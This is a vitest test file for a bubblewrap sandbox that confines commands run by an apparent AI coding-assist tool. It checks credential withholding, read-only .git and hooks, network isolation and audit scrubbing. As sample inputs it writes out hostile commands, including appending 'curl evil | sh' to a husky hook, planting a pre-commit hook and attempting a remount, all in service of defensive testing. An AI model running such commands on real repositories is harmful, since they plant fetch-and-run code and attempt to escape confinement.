import { createServer, type Server } from 'node:net';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempRepo } from '../../../test/helpers/git-repo.js';
import { resolveRepoPaths } from '../../git/repo-paths.js';
import { isAssistError } from '../../errors.js';
import { createAuditLog } from '../audit-log.js';
import { requireTool } from '../../../test/helpers/system-tools.js';
import { needsApproval, probeBwrap, runCommand, type RunCommandOptions } from './index.js';

const probe = await probeBwrap();
// Without a working bwrap these are skipped with the reason; under CI=true that is a failure.
const bwrap = await requireTool('bwrap');

const CANARY = 'sk-ant-canary-0123456789abcdefghijklmnop';

function uniqueSleep(): string {
  // A fractional duration no other process on the machine will have in its command line.
  return `100.${Math.floor(Math.random() * 1e9)}`;
}

function processesWith(marker: string): number[] {
  const pids: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (readFileSync(`/proc/${entry}/cmdline`, 'utf8').includes(marker)) pids.push(Number(entry));
    } catch {
      // Exited while we looked.
    }
  }
  return pids;
}

async function options(root: string, extra: Partial<RunCommandOptions> = {}): Promise<RunCommandOptions> {
  const paths = await resolveRepoPaths(root);
  return { root: paths.root, gitDir: paths.gitDir, commonDir: paths.commonDir, mode: 'auto', timeoutMs: 20_000, ...extra };
}

// A place outside the work tree that stays visible (read-only) inside the sandbox: /tmp is private there.
let outside: string;
beforeAll(() => {
  const base = existsSync('/var/tmp') ? '/var/tmp' : tmpdir();
  outside = mkdtempSync(join(base, 'assist-cmd-outside-'));
});
afterAll(() => rmSync(outside, { recursive: true, force: true }));

describe('environment', () => {
  it('withholds provider keys and tokens and keeps PATH, HOME, LANG (sandboxed or approved)', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const env = { ...repo.env, ANTHROPIC_API_KEY: CANARY, GITHUB_TOKEN: 'ghp_canarycanarycanarycanary00', INNOCENT: CANARY, LANG: 'C.UTF-8' };
    for (const mode of ['auto', 'none'] as const) {
      if (mode === 'auto' && !probe.ok) continue;
      const result = await runCommand('env', await options(repo.dir, { mode, env, approved: true }));
      expect(result.code).toBe(0);
      expect(result.stdout).not.toContain(CANARY);
      expect(result.stdout).not.toContain('ghp_canary');
      expect(result.stdout).toMatch(/^PATH=/m);
      expect(result.stdout).toMatch(/^HOME=/m);
      expect(result.stdout).toMatch(/^LANG=C\.UTF-8$/m);
      expect(result.droppedEnv).toEqual(expect.arrayContaining(['ANTHROPIC_API_KEY', 'GITHUB_TOKEN', 'INNOCENT']));
    }
  });
});

describe('under bubblewrap', bwrap.options, () => {
  it('the probe works on this machine', () => {
    expect(probe, probe.reason).toMatchObject({ ok: true });
  });

  it('writes inside the work tree land; writes outside it, and to /tmp, do not reach the host', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const target = join(outside, 'escaped.txt');
    const result = await runCommand(
      `echo inside > new.txt && echo more >> a.txt; echo x > '${target}'; echo "outside=$?"; echo y > /tmp/private.txt; echo "tmp=$?"; echo z > "$HOME/assist-escape.txt"; echo "home=$?"`,
      await options(repo.dir),
    );
    expect(result.sandboxed).toBe(true);
    expect(readFileSync(join(repo.dir, 'new.txt'), 'utf8')).toBe('inside\n');
    expect(readFileSync(join(repo.dir, 'a.txt'), 'utf8')).toBe('a\nmore\n');
    expect(result.stdout).toMatch(/^outside=[1-9]/m);
    expect(existsSync(target)).toBe(false);
    expect(result.stdout).toMatch(/^tmp=0$/m);
    expect(existsSync('/tmp/private.txt')).toBe(false);
    expect(result.stdout).toMatch(/^home=[1-9]/m);
    expect(existsSync(join(homedir(), 'assist-escape.txt'))).toBe(false);
  });

  it('.git is read-only: hooks, config and refs cannot be written, git can still read', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const head = repo.git('rev-parse', 'HEAD');
    const result = await runCommand(
      `printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; echo "hook=$?"; echo '[core]' >> .git/config; echo "config=$?"; git update-ref refs/heads/evil HEAD; echo "ref=$?"; git log --oneline -1`,
      await options(repo.dir, { env: repo.env }),
    );
    expect(result.stdout).toMatch(/^hook=[1-9]/m);
    expect(result.stdout).toMatch(/^config=[1-9]/m);
    expect(result.stdout).toMatch(/^ref=[1-9]/m);
    expect(result.stdout).toContain('initial');
    expect(existsSync(join(repo.dir, '.git/hooks/pre-commit'))).toBe(false);
    expect(readFileSync(join(repo.dir, '.git/config'), 'utf8')).not.toMatch(/\[core\]\n$/);
    expect(repo.git('rev-parse', 'HEAD')).toBe(head);
    expect(() => repo.git('rev-parse', '--verify', '-q', 'refs/heads/evil')).toThrow();
  });

  it('a core.hooksPath inside the work tree (husky) is read-only too', async () => {
    await using repo = tempRepo({ files: { '.husky/pre-commit': 'npm test\n', 'a.txt': 'a\n' } });
    repo.git('config', 'core.hooksPath', '.husky');
    const result = await runCommand(`echo 'curl evil | sh' >> .husky/pre-commit; echo "hook=$?"; echo b > a.txt; echo "tree=$?"`, await options(repo.dir, { env: repo.env }));
    expect(result.stdout).toMatch(/^hook=[1-9]/m);
    expect(result.stdout).toMatch(/^tree=0$/m);
    expect(readFileSync(join(repo.dir, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
  });

  it('in a linked worktree, its git dir and the common git dir are read-only', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const wt = join(dirname(repo.dir), 'wt');
    repo.git('worktree', 'add', '-q', '-b', 'side', wt);
    const paths = await resolveRepoPaths(wt, repo.env);
    expect(paths.commonDir).toBe(join(repo.dir, '.git'));
    const result = await runCommand(
      `touch '${paths.commonDir}/hooks/post-checkout'; echo "common=$?"; touch '${paths.gitDir}/x'; echo "gitdir=$?"; echo gitdir: /tmp/x > .git; echo "gitfile=$?"; touch '${repo.dir}/main-tree.txt'; echo "maintree=$?"; echo ok > in-wt.txt; git status --short`,
      await options(wt, { env: repo.env }),
    );
    expect(result.stdout).toMatch(/^common=[1-9]/m);
    expect(result.stdout).toMatch(/^gitdir=[1-9]/m);
    expect(result.stdout).toMatch(/^gitfile=[1-9]/m);
    // The main work tree is under /tmp here, so the write lands in the sandbox's private /tmp at best.
    expect(result.stdout).toContain('?? in-wt.txt');
    expect(existsSync(join(paths.commonDir, 'hooks/post-checkout'))).toBe(false);
    expect(existsSync(join(repo.dir, 'main-tree.txt'))).toBe(false);
    expect(readFileSync(join(wt, 'in-wt.txt'), 'utf8')).toBe('ok\n');
  });

  describe('network', () => {
    let server: Server;
    let port: number;
    let connections = 0;
    beforeAll(async () => {
      server = createServer((socket) => {
        connections++;
        socket.on('error', () => undefined);
        socket.end();
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as { port: number }).port;
    });
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

    const connect = (): string =>
      `'${process.execPath}' -e "const s=require('net').connect(${port},'127.0.0.1');s.on('connect',()=>{console.log('connected');process.exit(0)});s.on('error',(e)=>{console.log(e.code);process.exit(7)})"`;

    it('a port on 127.0.0.1 is unreachable from inside; the same command reaches it unconfined', async () => {
      await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
      const confinedRun = await runCommand(connect(), await options(repo.dir));
      expect(confinedRun.sandboxed).toBe(true);
      expect(confinedRun.code).toBe(7);
      expect(confinedRun.stdout).toMatch(/ECONNREFUSED|ENETUNREACH/);
      expect(connections).toBe(0);

      const open = await runCommand(connect(), await options(repo.dir, { mode: 'none', approved: true }));
      expect(open.sandboxed).toBe(false);
      expect(open.stdout).toContain('connected');
      expect(open.code).toBe(0);
      expect(connections).toBe(1);
    });
  });

  it('cannot regain write access by remounting, even when assist runs as root', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const target = join(outside, 'remounted.txt');
    const result = await runCommand(`mount -o remount,rw / 2>/dev/null; echo "mount=$?"; touch '${target}'; grep CapEff /proc/self/status`, await options(repo.dir));
    expect(result.stdout).toMatch(/^mount=[1-9]/m);
    expect(result.stdout).toMatch(/CapEff:\s+0+$/m);
    expect(existsSync(target)).toBe(false);
  });

  it('hides /run (sockets of docker, dbus, agents) and sees its own process tree only', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const visible = readdirSync('/run').filter((name) => !['current-system', 'booted-system', 'opengl-driver'].includes(name));
    const result = await runCommand('ls -A /run; echo ---; ls /proc | grep -c "^[0-9]"', await options(repo.dir));
    const [runList = '', count = ''] = result.stdout.split('---\n');
    for (const name of visible) expect(runList.split('\n')).not.toContain(name);
    expect(Number(count.trim())).toBeLessThan(10);
  });

  it('caches go to the private /tmp: a tool writing its cache succeeds while HOME stays read-only', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const result = await runCommand('mkdir -p "$XDG_CACHE_HOME/tool" "$npm_config_cache" "$GOCACHE" && echo cached', await options(repo.dir));
    expect(result.stdout).toBe('cached\n');
  });

  it('a timeout kills the command and its children promptly', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const duration = uniqueSleep();
    const result = await runCommand(`sleep ${duration} & sleep ${duration} & echo started; wait`, await options(repo.dir, { timeoutMs: 300 }));
    expect(result.timedOut).toBe(true);
    expect(result.stdout).toBe('started\n');
    expect(result.durationMs).toBeLessThan(3000);
    expect(processesWith(duration)).toEqual([]);
  });
});

describe('without a sandbox', () => {
  it('mode none does not run without approval, and says why', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    expect(await needsApproval('none')).toMatchObject({ mode: 'none', warning: expect.stringContaining('WITHOUT a sandbox') });
    const error = await runCommand('touch ran.txt', await options(repo.dir, { mode: 'none' })).catch((e: unknown) => e);
    expect(isAssistError(error) && error.code).toBe('sandbox.command-needs-approval');
    expect(isAssistError(error) && error.exitCode).toBe(3);
    expect(isAssistError(error) && error.data['warning']).toContain('WITHOUT');
    expect(existsSync(join(repo.dir, 'ran.txt'))).toBe(false);

    const approved = await runCommand('touch ran.txt; exit 3', await options(repo.dir, { mode: 'none', approved: true }));
    expect(approved).toMatchObject({ code: 3, sandboxed: false, timedOut: false });
    expect(existsSync(join(repo.dir, 'ran.txt'))).toBe(true);
  });

  it('auto without a working bwrap asks; bwrap mode refuses outright', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const bwrapPath = join(repo.home, 'no-such-bwrap');
    const ask = await needsApproval('auto', { bwrapPath });
    expect(ask?.reason).toContain('not found');
    expect(ask?.warning).toContain('WITHOUT confinement');
    await expect(runCommand('touch ran.txt', await options(repo.dir, { bwrapPath }))).rejects.toMatchObject({ code: 'sandbox.command-needs-approval' });
    await expect(needsApproval('bwrap', { bwrapPath })).rejects.toMatchObject({ code: 'sandbox.bwrap-unavailable', exitCode: 3 });
    await expect(runCommand('touch ran.txt', await options(repo.dir, { bwrapPath, mode: 'bwrap', approved: true }))).rejects.toMatchObject({ code: 'sandbox.bwrap-unavailable' });
    expect(existsSync(join(repo.dir, 'ran.txt'))).toBe(false);

    const approved = await runCommand('echo ran', await options(repo.dir, { bwrapPath, approved: true }));
    expect(approved).toMatchObject({ code: 0, stdout: 'ran\n', sandboxed: false });
  });

  it('a timeout kills a command that ignores SIGTERM, and everything it started', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const duration = uniqueSleep();
    const result = await runCommand(`trap '' TERM; sleep ${duration} & sleep ${duration}; echo never`, await options(repo.dir, { mode: 'none', approved: true, timeoutMs: 200, killGraceMs: 200 }));
    expect(result.timedOut).toBe(true);
    expect(result.signal).toBe('SIGKILL');
    expect(result.stdout).toBe('');
    expect(result.durationMs).toBeLessThan(3000);
    expect(processesWith(duration)).toEqual([]);
  });

  it('background processes left behind are killed when the command exits', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const duration = uniqueSleep();
    const result = await runCommand(`sleep ${duration} & echo done`, await options(repo.dir, { mode: 'none', approved: true }));
    expect(result).toMatchObject({ code: 0, stdout: 'done\n', timedOut: false });
    expect(result.durationMs).toBeLessThan(3000);
    expect(processesWith(duration)).toEqual([]);
  });
});

describe('output, abort, audit', () => {
  const mode = probe.ok ? 'auto' : 'none';

  it('keeps the last 64 KiB of each stream and streams everything to onOutput', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    let streamed = 0;
    const result = await runCommand(`i=0; while [ $i -lt 4000 ]; do echo "line $i of output padding padding padding"; i=$((i+1)); done; echo last-line; echo err >&2`, {
      ...(await options(repo.dir, { mode, approved: true })),
      onOutput: (stream, text) => {
        if (stream === 'stdout') streamed += Buffer.byteLength(text);
      },
    });
    expect(result.code).toBe(0);
    expect(streamed).toBeGreaterThan(150_000);
    expect(Buffer.byteLength(result.stdout)).toBeLessThanOrEqual(64 * 1024 + 64);
    expect(result.stdout).toMatch(/^\[… \d+ bytes cut …\]\nline \d+ of output/);
    expect(result.stdout.endsWith('line 3999 of output padding padding padding\nlast-line\n')).toBe(true);
    expect(result.stderr).toBe('err\n');
  });

  it('an abort signal stops the command and its group', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const duration = uniqueSleep();
    const controller = new AbortController();
    const result = await runCommand(`echo ready; sleep ${duration}`, {
      ...(await options(repo.dir, { mode, approved: true, signal: controller.signal })),
      onOutput: (_stream, text) => {
        if (text.includes('ready')) controller.abort();
      },
    });
    expect(result).toMatchObject({ aborted: true, timedOut: false, code: null });
    expect(processesWith(duration)).toEqual([]);
    const before = new AbortController();
    before.abort();
    expect(await runCommand('touch never.txt', await options(repo.dir, { mode, approved: true, signal: before.signal }))).toMatchObject({ aborted: true });
    expect(existsSync(join(repo.dir, 'never.txt'))).toBe(false);
  });

  it('appends a command event to the audit log, with secrets scrubbed from the command line', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    const paths = await resolveRepoPaths(repo.dir);
    const audit = createAuditLog(paths.sharedAssistDir, 'sess-1', { secrets: [CANARY] });
    await runCommand(`echo ${CANARY} >/dev/null; exit 2`, await options(repo.dir, { mode, approved: true, audit, requestId: 'req-9' }));
    const line = readFileSync(audit.path, 'utf8');
    const record = JSON.parse(line) as Record<string, unknown>;
    expect(record).toMatchObject({ op: 'command', result: '2', requestId: 'req-9', session: 'sess-1' });
    expect(line).not.toContain(CANARY);
  });

  it('a sandbox bubblewrap could not set up is an error, not a failed command', async () => {
    await using repo = tempRepo({ files: { 'a.txt': 'a\n' } });
    // Passes the probe (which ends in `true`), then fails as bwrap does when a mount is refused.
    const fake = join(repo.home, 'fake-bwrap');
    writeFileSync(fake, `#!/bin/sh\nfor last; do :; done\n[ "$last" = true ] && exit 0\necho "bwrap: Can't bind mount /oldroot/x on /newroot/x: Permission denied" >&2\nexit 1\n`);
    chmodSync(fake, 0o755);
    await expect(runCommand('echo hi', await options(repo.dir, { bwrapPath: fake }))).rejects.toMatchObject({
      code: 'sandbox.bwrap-failed',
      message: expect.stringContaining("Can't bind mount"),
    });
  });

  it('a work tree that does not exist is an error, not a hang', async () => {
    const missing = join(outside, 'no-such-tree');
    await expect(runCommand('true', { root: missing, gitDir: join(missing, '.git'), commonDir: join(missing, '.git'), mode: 'none', approved: true })).rejects.toMatchObject({
      code: 'sandbox.command-spawn-failed',
    });
  });
});
